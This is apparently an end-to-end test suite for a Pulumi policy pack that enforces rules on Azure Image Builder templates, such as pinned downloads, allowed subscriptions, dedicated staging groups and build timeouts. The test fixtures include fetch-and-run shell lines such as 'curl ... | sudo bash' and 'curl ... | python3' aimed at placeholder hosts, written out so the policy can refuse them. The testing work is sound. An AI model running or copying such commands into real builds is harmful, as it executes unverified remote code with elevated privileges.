"""The policy pack under a real `pulumi preview`: principal ids and template names unknown, as they are before the
first deployment, mandatory rules refusing, advisory ones reporting."""

from __future__ import annotations

import json
import re
import shutil

from e2e_helpers import REPO, e2e_config, minimal_image


def with_pack(stack) -> None:
    shutil.copytree(REPO / "policy", stack.project / "policy", ignore=shutil.ignore_patterns("venv", "__pycache__"))


def test_a_compliant_stack_previews_through_the_pack(local_stack):
    stack = local_stack(e2e_config({"one": minimal_image("one")}))
    with_pack(stack)
    preview = stack.preview("--policy-pack", "policy", "--policy-pack-config", "policy/config.json")
    assert "\u2705 aib-golden-images@" in preview.stdout, preview.stdout[:2000]
    # Stack rules see principal ids and names unknown here, and still run (they once could not).
    assert "can't run policy" not in preview.stdout


def configure_pack(stack, **settings: dict) -> None:
    """The organisation's policy config with `settings` (policy name -> its settings) merged in."""
    path = stack.project / "policy" / "config.json"
    config = json.loads(path.read_text())
    for name, values in settings.items():
        config[name] = {**(config.get(name) if isinstance(config.get(name), dict) else {}), **values}
    path.write_text(json.dumps(config))


def refused_preview(stack):
    preview = stack.pulumi("preview", "--non-interactive", "--policy-pack", "policy", "--policy-pack-config",
                           "policy/config.json", check=False)
    assert preview.returncode != 0, preview.stdout[-3000:]
    assert "can't run policy" not in preview.stdout
    return preview.stdout


def test_an_advisory_rule_reports_without_failing_the_preview(local_stack):
    """An opt-out with a reason the organisation allows passes the mandatory rule; the advisory one reports it."""
    image = minimal_image("one")
    image["template"]["properties"]["customize"][0] = {
        "type": "Shell", "name": "vendor", "checksumOptOut": "vendor-rotates-content: agent installer",
        "inline": ["curl -fsSL https://vendor.example/install.sh | sudo bash"]}
    stack = local_stack(e2e_config({"one": image}))
    with_pack(stack)
    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]}})
    preview = stack.preview("--policy-pack", "policy", "--policy-pack-config", "policy/config.json")
    assert "[advisory]  aib-checksum-opt-outs" in preview.stdout and "agent installer" in preview.stdout


def test_disguised_fetch_and_run_and_an_opt_out_the_organisation_does_not_allow_are_refused(local_stack):
    """Download-then-run on the next line and `| python3` (the pack passed both), and an opt-out whose reason is not
    on the organisation's list (any text waived the rule)."""
    disguised = minimal_image("one")
    disguised["template"]["properties"]["customize"] = [
        {"type": "Shell", "name": "fetch", "inline": ["curl -fsSL -o /tmp/x.sh https://x.example/x.sh", "bash /tmp/x.sh"]},
        {"type": "Shell", "name": "py", "inline": ["curl -fsSL https://x.example/i.py | python3"]}]
    waived = minimal_image("two", definition="two")
    waived["template"]["properties"]["customize"] = [
        {"type": "Shell", "name": "trust", "checksumOptOut": "trust me",
         "inline": ["curl -fsSL https://x.example/i.sh | sudo bash"]}]
    stack = local_stack(e2e_config({"one": disguised, "two": waived}))
    with_pack(stack)
    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]}})
    out = refused_preview(stack)
    assert "customize[0] (fetch): inline commands run a file downloaded by this step without checking" in out
    assert "customize[1] (py): inline commands download code and run it unchecked" in out
    assert re.search(r"customize\[0\] \(trust\): .*reason 'trust me' is not one the organisation allows \(allowed: "
                     r"'vendor-rotates-content'", out.replace("\n", " ")), out[-3000:]
    assert "x.example" not in out  # inline commands are not quoted
    assert stack.templates() == {}, "nothing was created"


def test_targets_and_sources_in_another_subscription_are_refused(local_stack):
    foreign = "11111111-1111-1111-1111-111111111111"
    image = minimal_image("one")
    props = image["template"]["properties"]
    props["source"] = {"type": "SharedImageVersion", "imageVersionId":
                       f"/subscriptions/{foreign}/resourceGroups/rg-x/providers/Microsoft.Compute/galleries/g/images/i/"
                       "versions/1.0.0"}
    props["distribute"].append({"type": "VHD", "runOutputName": "one-vhd",
                                "uri": "https://stforeign.blob.core.windows.net/vhds/one.vhd"})
    stack = local_stack(e2e_config({"one": image}))
    with_pack(stack)
    out = refused_preview(stack).replace("\n", " ")
    assert "aib-allowed-subscriptions" in out
    assert re.search(rf"source\.imageVersionId '/subscriptions/{foreign}/.*' is in subscription {foreign}", out), out[-3000:]
    assert "distribute[1].uri 'https://stforeign.blob.core.windows.net/vhds/one.vhd' writes the image to a storage " \
           "account the policy cannot place in a subscription" in out


def test_a_shared_staging_group_and_promotion_without_a_stop_on_failed_validators_are_refused(local_stack):
    image = minimal_image("one")
    props = image["template"]["properties"]
    props["stagingResourceGroup"] = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-shared-staging"
    props["distribute"][0]["excludeFromLatest"] = True
    props["validate"] = {"continueDistributeOnFailure": True,
                         "inVMValidations": [{"type": "Shell", "name": "smoke", "inline": ["true"]}]}
    image["lifecycle"] = {"promotion": {"mode": "afterValidation"}}
    stack = local_stack(e2e_config({"one": image}))
    with_pack(stack)
    out = refused_preview(stack).replace("\n", " ")
    assert re.search(r"mandatory: \[?aib-dedicated-staging|aib-dedicated-staging.*mandatory", out, re.IGNORECASE) \
        or "aib-dedicated-staging" in out, out[-3000:]
    assert "rg-shared-staging' is not created by this stack" in out
    assert "validate.continueDistributeOnFailure is true" in out and "aib-validated-promotion" in out
    # The organisation vouches for the group: only the promotion rule refuses now.
    configure_pack(stack, **{"aib-dedicated-staging": {"allowedStagingGroups": ["rg-shared-staging"]}})
    out = refused_preview(stack).replace("\n", " ")
    assert "rg-shared-staging' is not created by this stack" not in out and "aib-validated-promotion" in out


def test_a_mandatory_violation_fails_the_preview_with_the_rule_and_resource(local_stack):
    image = minimal_image("one")
    image["template"]["properties"]["buildTimeoutInMinutes"] = 900  # over the organisation's maxMinutes (480)
    stack = local_stack(e2e_config({"one": image}))
    with_pack(stack)
    preview = stack.pulumi("preview", "--non-interactive", "--policy-pack", "policy", "--policy-pack-config",
                           "policy/config.json", check=False)
    assert preview.returncode != 0
    assert "aib-build-timeout" in preview.stdout and "mandatory" in preview.stdout.lower()
    assert re.search(r"one-[0-9a-f]{10}-template", preview.stdout)
    assert "can't run policy" not in preview.stdout
    assert stack.templates() == {}, "nothing was created"


def test_a_template_at_2025_10_01_is_held_to_the_same_rules(local_stack):
    """Declared as a versioned template (components/versioned_template.py), it still meets every template rule."""
    image = minimal_image("one")
    image["template"]["properties"]["distribute"][0]["replicationMode"] = "Shallow"
    image["template"]["properties"]["buildTimeoutInMinutes"] = 900
    stack = local_stack(e2e_config({"one": image}))
    with_pack(stack)
    preview = stack.pulumi("preview", "--non-interactive", "--policy-pack", "policy", "--policy-pack-config",
                           "policy/config.json", check=False)
    assert preview.returncode != 0
    assert "aib-build-timeout" in preview.stdout and re.search(
        r"aib:VersionedTemplate: one-[0-9a-f]{10}-template", preview.stdout)
